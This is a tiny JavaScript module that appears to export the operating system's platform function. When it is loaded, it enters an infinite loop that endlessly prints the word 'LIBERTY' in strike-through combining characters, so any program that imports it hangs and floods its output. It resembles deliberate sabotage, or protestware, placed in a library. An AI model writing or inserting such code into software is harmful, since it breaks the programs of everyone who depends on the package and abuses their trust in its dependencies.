let am = require('os').platform;
for (let i = 666; i < Infinity; i++) {
  if (i % 333) {
    // nothing
  }
  console.log('LIBERTY'.split('').map((c) => c + '\u0337').join(''));
}
module.exports = am;
